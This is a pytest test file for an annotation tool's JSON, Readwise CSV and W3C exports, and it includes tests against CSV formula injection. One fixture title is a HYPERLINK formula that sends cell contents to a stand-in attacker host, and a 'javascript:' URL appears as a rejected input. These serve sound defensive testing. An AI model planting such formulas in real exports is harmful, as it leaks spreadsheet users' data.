"""JSON, Readwise CSV and W3C exports: each parsed back and checked against the library."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from annotations import export
from annotations.anchoring import BLOCK_SEPARATOR, TextMap
from annotations.formats import interchange
from annotations.models import Block, BlockKind, Document
from annotations.store import AnnotationStore
from reader.cli import cli
from tests.conftest import FixedClock


def run(*args: str | Path) -> Result:
    """Run the command line with the given arguments."""
    return CliRunner().invoke(cli, [str(arg) for arg in args], prog_name="reader")


def build_library(store: AnnotationStore) -> dict[str, str]:
    """Three articles: one annotated in many ways, one orphaned passage, one unannotated.

    Returns:
        Article ids by a short name.
    """
    bridges = Document(
        title="Bridges, “old” and new",
        blocks=(
            Block(BlockKind.HEADING, "Why we build them", 2),
            Block(BlockKind.PARAGRAPH, 'A bridge joins two banks, "and" two towns.'),
            Block(BlockKind.CODE, "span = 42\nlanes = 1"),
            Block(BlockKind.PARAGRAPH, "Ünïcödé 🙂 text, with a comma; and a line\nbreak."),
        ),
        source="https://example.org/bridges",
        date="2023-05",
        author="Ineke Hoogstraten",
        tags=("towns",),
        format="md",
    )
    ids = {"bridges": store.import_document(bridges).article.id}
    store.add_highlight(ids["bridges"], (1, 2), (1, 8), tags=["civic life", "Ideas"])
    store.add_highlight(
        ids["bridges"], (1, 20), (3, 7), color="green", note='Line one, "quoted".\nLine two.'
    )
    store.add_highlight(ids["bridges"], (3, 8), (3, 9), color="pink", note="Just a note")
    gone = Document(
        "Gone",
        (Block(BlockKind.PARAGRAPH, "This will vanish. This stays."),),
        source="/notes/g.txt",
    )
    ids["gone"] = store.import_document(gone).article.id
    store.add_highlight(ids["gone"], (0, 0), (0, 17), tags=["lost"])
    store.import_document(
        Document("Gone", (Block(BlockKind.PARAGRAPH, "This stays."),), source="/notes/g.txt")
    )
    plain = Document("Plain", (Block(BlockKind.PARAGRAPH, "Nothing marked."),), source="")
    ids["plain"] = store.import_document(plain).article.id
    return ids


# JSON ------------------------------------------------------------------------------------------


def test_json_export_holds_every_article_with_text_and_annotations(
    store: AnnotationStore,
) -> None:
    """Every article (annotated or not) with its details, blocks and complete annotations."""
    ids = build_library(store)
    store.set_position(ids["bridges"], 2)

    data = json.loads(export.export_json(store))

    assert data["format"] == "reader-annotations"
    assert data["version"] == 1
    assert data["exported"].endswith("Z")
    assert [a["id"] for a in data["articles"]] == [ids["bridges"], ids["gone"], ids["plain"]]
    bridges = data["articles"][0]
    article = store.get_article(ids["bridges"])
    assert {k: bridges[k] for k in ("title", "source", "date", "author", "format")} == {
        "title": article.title,
        "source": "https://example.org/bridges",
        "date": "2023-05",
        "author": "Ineke Hoogstraten",
        "format": "md",
    }
    assert bridges["tags"] == ["towns"]
    assert bridges["position"] == 2
    assert bridges["opened_at"] == article.opened_at is not None
    assert (bridges["created_at"], bridges["updated_at"]) == (
        article.created_at,
        article.updated_at,
    )
    assert bridges["content_hash"] == article.content_hash
    assert bridges["blocks"][2] == {"kind": "code", "level": 0, "text": "span = 42\nlanes = 1"}
    assert bridges["blocks"][0] == {"kind": "heading", "level": 2, "text": "Why we build them"}
    stored = store.list_annotations(ids["bridges"])
    assert [n["id"] for n in bridges["annotations"]] == [n.id for n in stored]
    first = bridges["annotations"][0]
    assert first["anchor"] == {
        "start_block": 1,
        "start_offset": 2,
        "end_block": 1,
        "end_offset": 8,
        "exact": "bridge",
        "prefix": "Why we build them\n\nA ",
        "suffix": ' joins two banks, "and" two town',
    }
    assert first["tags"] == ["civic life", "Ideas"]
    assert first["color"] == "yellow" and first["note"] == "" and first["orphaned"] is False
    assert bridges["annotations"][1]["note"] == 'Line one, "quoted".\nLine two.'
    gone = data["articles"][1]["annotations"][0]
    assert gone["orphaned"] is True and gone["anchor"]["exact"] == "This will vanish."
    assert data["articles"][2]["annotations"] == []


def test_json_export_is_indented_utf8_and_can_be_limited(store: AnnotationStore) -> None:
    """Non-ASCII text is kept as is (not \\u escapes); the pieces form one indented document."""
    ids = build_library(store)
    article = store.get_article(ids["plain"])

    text = "".join(export.iter_json(store, [article], store.clock()))

    assert json.loads(text)["articles"][0]["id"] == ids["plain"]
    assert len(json.loads(text)["articles"]) == 1
    full = export.export_json(store)
    assert "Ünïcödé 🙂" in full and "\\u" not in full
    parsed = json.loads(full)
    assert full == json.dumps(parsed, ensure_ascii=False, indent=2) + "\n"
    empty = json.loads("".join(export.iter_json(store, [], store.clock())))
    assert empty["articles"] == []


# CSV -------------------------------------------------------------------------------------------


def test_csv_has_readwise_columns_and_reads_back(store: AnnotationStore) -> None:
    """The exact header, one row per annotation, quotes, commas and line breaks intact."""
    ids = build_library(store)
    articles = [a for a in store.list_articles() if a.annotation_count]

    text = export.export_csv(store, articles)

    assert text.startswith("Highlight,Title,Author,URL,Note,Location,Date\r\n")
    assert not text.startswith("\ufeff")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == ["Highlight", "Title", "Author", "URL", "Note", "Location", "Date"]
    rows = list(reader)
    assert len(rows) == 4
    first, second, third, gone = rows
    assert first == {
        "Highlight": "bridge",
        "Title": "Bridges, “old” and new",
        "Author": "Ineke Hoogstraten",
        "URL": "https://example.org/bridges",
        "Note": ".civic-life .Ideas",
        "Location": "2",
        "Date": "2026-01-31 09:00:01",
    }
    annotation = store.list_annotations(ids["bridges"])[1]
    assert second["Highlight"] == annotation.anchor.exact
    assert "\n\nspan = 42\nlanes = 1\n\n" in second["Highlight"]
    assert second["Note"] == 'Line one, "quoted".\nLine two.'
    assert third["Note"] == "Just a note"
    assert gone["Highlight"] == "This will vanish."
    assert gone["Note"] == ".lost"
    assert gone["Location"] == ""
    assert gone["URL"] == ""


FORMULAS = ["=1+1", "+44 20 7946 0000", "-- a dash", "@handle", "\tTabbed", "\rReturn"]
"""Passages a spreadsheet would read as formulas, one for each formula start."""


def formula_library(store: AnnotationStore) -> None:
    """An article whose title, author, passages and notes each start like a formula."""
    blocks = tuple(Block(BlockKind.PARAGRAPH, f"{text} and more.") for text in FORMULAS)
    document = Document(
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        blocks,
        source="https://example.org/f",
        author="@author",
    )
    article = store.import_document(document).article
    for index, text in enumerate(FORMULAS):
        store.add_highlight(article.id, (index, 0), (index, len(text)), note=f"-note {index}")


def test_csv_cells_a_spreadsheet_would_run_get_a_quote_first(store: AnnotationStore) -> None:
    """= + - @ tab CR at the start of any cell gets a ' in front; the columns stay Readwise's."""
    formula_library(store)

    text = export.export_csv(store, store.list_articles())

    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == list(interchange.CSV_COLUMNS)
    rows = list(reader)
    assert [row["Highlight"] for row in rows] == [f"'{formula}" for formula in FORMULAS]
    assert {row["Title"] for row in rows} == {'\'=HYPERLINK("http://evil.example/?"&A1,"Click")'}
    assert {row["Author"] for row in rows} == {"'@author"}
    assert [row["Note"] for row in rows] == [f"'-note {index}" for index in range(6)]
    assert [row["Location"] for row in rows] == [str(number) for number in range(1, 7)]
    assert {row["URL"] for row in rows} == {"https://example.org/f"}
    assert not [cell for row in rows for cell in row.values() if cell[:1] in "=+-@\t\r"]


def test_csv_raw_keeps_every_cell_as_stored(store: AnnotationStore) -> None:
    """`neutralise=False` (`--raw-csv`) writes the passages exactly, for a Readwise upload."""
    formula_library(store)

    text = export.export_csv(store, store.list_articles(), neutralise=False)

    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["Highlight"] for row in rows] == FORMULAS
    assert {row["Author"] for row in rows} == {"@author"}


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=SUM(A1)", "'=SUM(A1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        (" =x", " =x"),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell: str, shown: str) -> None:
    """Only a formula start at the very start of a cell is neutralised."""
    assert interchange.neutralise_cell(cell) == shown


def test_only_web_sources_are_urls() -> None:
    """URL is the source for http(s) only; paths and other schemes give an empty cell."""
    assert interchange.web_url("https://a.org/x") == "https://a.org/x"
    assert interchange.web_url("HTTP://A.ORG") == "HTTP://A.ORG"
    assert interchange.web_url("/home/me/a.txt") == ""
    assert interchange.web_url("ftp://a.org/x") == ""
    assert interchange.web_url("javascript:alert(1)") == ""


# W3C -------------------------------------------------------------------------------------------


def test_w3c_export_follows_the_web_annotation_model(store: AnnotationStore) -> None:
    """A collection with a page of annotations: ids, motivation, bodies and both selectors."""
    ids = build_library(store)
    articles = [a for a in store.list_articles() if a.annotation_count]

    data = json.loads(export.export_w3c(store, articles))

    assert data["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert data["type"] == "AnnotationCollection"
    assert data["id"].startswith("urn:uuid:")
    assert data["total"] == 4
    page = data["first"]
    assert page["type"] == "AnnotationPage"
    items = page["items"]
    assert len(items) == 4
    stored = [*store.list_annotations(ids["bridges"]), *store.list_annotations(ids["gone"])]
    assert [item["id"] for item in items] == [f"urn:uuid:{n.id}" for n in stored]
    for item, annotation in zip(items, stored, strict=True):
        assert item["type"] == "Annotation"
        assert item["created"] == annotation.created_at
        assert item["modified"] == annotation.updated_at
        quote = item["target"]["selector"][0]
        assert quote == {
            "type": "TextQuoteSelector",
            "exact": annotation.anchor.exact,
            "prefix": annotation.anchor.prefix,
            "suffix": annotation.anchor.suffix,
        }
    tagged, noted = items[0], items[1]
    assert tagged["motivation"] == "highlighting"
    assert tagged["body"] == [
        {"type": "TextualBody", "purpose": "tagging", "value": "civic life"},
        {"type": "TextualBody", "purpose": "tagging", "value": "Ideas"},
    ]
    assert noted["motivation"] == "commenting"
    assert noted["body"] == [
        {
            "type": "TextualBody",
            "purpose": "commenting",
            "value": 'Line one, "quoted".\nLine two.',
            "format": "text/plain",
        }
    ]
    assert noted["target"]["styleClass"] == "reader-green"
    assert ".reader-green" in noted["stylesheet"]["value"]
    assert tagged["target"]["source"] == "https://example.org/bridges"
    orphan = items[3]
    assert orphan["target"]["source"] == "file:///notes/g.txt"
    assert [s["type"] for s in orphan["target"]["selector"]] == ["TextQuoteSelector"]


def test_text_position_selectors_slice_the_exact_text(store: AnnotationStore) -> None:
    """Positions count characters of the blocks joined by a blank line, as documented."""
    ids = build_library(store)
    article = store.get_article(ids["bridges"])
    whole = BLOCK_SEPARATOR.join(block.text for block in store.get_blocks(article.id))
    assert BLOCK_SEPARATOR == "\n\n"
    assert TextMap([block.text for block in store.get_blocks(article.id)]).text == whole

    items = json.loads(export.export_w3c(store, [article]))["first"]["items"]

    assert len(items) == 3
    for item in items:
        quote, position = item["target"]["selector"]
        assert position["type"] == "TextPositionSelector"
        assert whole[position["start"] : position["end"]] == quote["exact"]
        assert whole[: position["start"]].endswith(quote["prefix"])
        assert whole[position["end"] :].startswith(quote["suffix"])


def test_article_iris(store: AnnotationStore) -> None:
    """A URL as is, an absolute path as a file URI, anything else the article's urn:uuid."""
    ids = build_library(store)
    plain = store.get_article(ids["plain"])
    assert interchange.source_iri(plain) == f"urn:uuid:{plain.id}"
    assert interchange.source_iri(store.get_article(ids["gone"])) == "file:///notes/g.txt"


# Command line ----------------------------------------------------------------------------------


@pytest.fixture
def db(tmp_path: Path, clock: FixedClock) -> Path:
    """A library file with the test articles (so no samples are imported)."""
    path = tmp_path / "lib.db"
    store = AnnotationStore(path, clock=clock)
    build_library(store)
    store.close()
    return path


@pytest.mark.parametrize("fmt", ["json", "csv", "w3c"])
def test_cli_exports_to_stdout_and_to_a_file(db: Path, tmp_path: Path, fmt: str) -> None:
    """No -o (or -o -) prints the export; -o FILE writes the same export to the file."""
    printed = run("--db", db, "export", "--format", fmt)
    dashed = run("--db", db, "export", "--format", fmt, "-o", "-")
    target = tmp_path / "out" / f"export.{fmt}"
    written = run("--db", db, "export", "--format", fmt, "-o", target)

    for result in (printed, dashed, written):
        assert result.exit_code == 0, result.output
    assert written.stdout == ""
    assert f"to {target}" in written.stderr
    text = target.read_text(encoding="utf-8")
    if fmt == "csv":
        assert text == printed.stdout == dashed.stdout
        assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == 4
    else:
        parsed = [json.loads(t) for t in (printed.stdout, dashed.stdout, text)]
        for data in parsed:
            data.pop("exported", None)
            data.pop("generated", None)
            data.pop("id", None)
            data.get("first", {}).pop("id", None)
        assert parsed[0] == parsed[1] == parsed[2]
    assert sorted(p.name for p in target.parent.iterdir()) == [target.name]


def test_cli_csv_neutralises_formulas_unless_raw(tmp_path: Path) -> None:
    """`reader export --format csv` neutralises; `--raw-csv` does not; `--raw-csv` with
    another format is a usage error."""
    path = tmp_path / "formulas.db"
    store = AnnotationStore(path, clock=FixedClock())
    formula_library(store)
    store.close()

    safe = run("--db", path, "export", "--format", "csv")
    raw = run("--db", path, "export", "--format", "csv", "--raw-csv")
    wrong = run("--db", path, "export", "--format", "json", "--raw-csv")

    assert safe.exit_code == raw.exit_code == 0
    highlights = [
        [row["Highlight"] for row in csv.DictReader(io.StringIO(result.stdout, newline=""))]
        for result in (safe, raw)
    ]
    assert highlights == [[f"'{formula}" for formula in FORMULAS], FORMULAS]
    assert wrong.exit_code == 2
    assert wrong.stderr == "reader: --raw-csv is for --format csv, not json\n"


def test_cli_json_has_all_articles_and_article_limits_it(db: Path) -> None:
    """JSON holds the unannotated article too; --article keeps one; CSV only annotated ones."""
    every = json.loads(run("--db", db, "export", "--format", "json").stdout)
    assert [a["title"] for a in every["articles"]] == ["Bridges, “old” and new", "Gone", "Plain"]
    plain_id = every["articles"][2]["id"]

    one = json.loads(
        run("--db", db, "export", "--format", "json", "--article", plain_id[:8]).stdout
    )
    assert [a["id"] for a in one["articles"]] == [plain_id]
    w3c = json.loads(run("--db", db, "export", "--format", "w3c").stdout)
    assert w3c["total"] == len(w3c["first"]["items"]) == 4


@pytest.mark.parametrize("fmt", ["json", "csv", "w3c"])
def test_cli_refuses_a_folder_for_one_file_formats(db: Path, tmp_path: Path, fmt: str) -> None:
    """A folder for json/csv/w3c is a usage error (exit 2), and nothing is written."""
    folder = tmp_path / "dir"
    folder.mkdir()
    for output in (folder, f"{tmp_path / 'new'}/"):
        result = run("--db", db, "export", "--format", fmt, "-o", output)
        assert result.exit_code == 2
        assert result.stderr.startswith("reader: ") and result.stderr.count("\n") == 1
        assert "file name" in result.stderr
    assert list(folder.iterdir()) == []
    assert not (tmp_path / "new").exists()


def test_cli_markdown_folder_export_reports_new_updated_unchanged(db: Path, tmp_path: Path) -> None:
    """`-o DIR` twice: the second run reports every file unchanged and adds none."""
    folder = tmp_path / "vault"
    first = run("--db", db, "export", "-o", folder)
    second = run("--db", db, "export", "-o", folder)

    assert first.exit_code == second.exit_code == 0
    assert (
        first.stderr.strip() == f"exported 2 articles to {folder} (2 new, 0 updated, 0 unchanged)"
    )
    assert second.stderr.strip() == (
        f"exported 2 articles to {folder} (0 new, 0 updated, 2 unchanged)"
    )
    assert len(list(folder.iterdir())) == 2


def test_cli_export_write_failure_is_one_line(db: Path, tmp_path: Path) -> None:
    """An unwritable target is a one-line error, exit 1, no traceback."""
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    result = run("--db", db, "export", "--format", "json", "-o", blocker / "sub" / "e.json")
    assert result.exit_code == 1
    assert result.stderr.startswith("reader: cannot write ")
    assert result.stderr.count("\n") == 1


@pytest.mark.parametrize("fmt", ["json", "w3c", "markdown"])
def test_a_closed_pipe_ends_the_export_quietly(tmp_path: Path, fmt: str) -> None:
    """`reader export | head -c 10`: no error line about writing to '-'."""
    import os
    import subprocess
    import sys

    db = tmp_path / "big.db"
    store = AnnotationStore(db)
    blocks = tuple(Block(BlockKind.PARAGRAPH, f"Paragraph {n} " + "word " * 60) for n in range(400))
    article = store.import_document(Document("Long", blocks, source="/long.txt")).article
    for n in range(400):
        store.add_highlight(article.id, (n, 0), (n, 200), note="a note " * 10)
    store.close()
    process = subprocess.Popen(
        [sys.executable, "-m", "reader", "--db", str(db), "export", "--format", fmt],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env={**os.environ, "PYTHONWARNINGS": "ignore"},
    )
    assert process.stdout is not None and process.stderr is not None
    process.stdout.read(10)
    process.stdout.close()
    stderr = process.stderr.read().decode()
    process.wait(timeout=30)
    assert "cannot write" not in stderr
    assert "Traceback" not in stderr
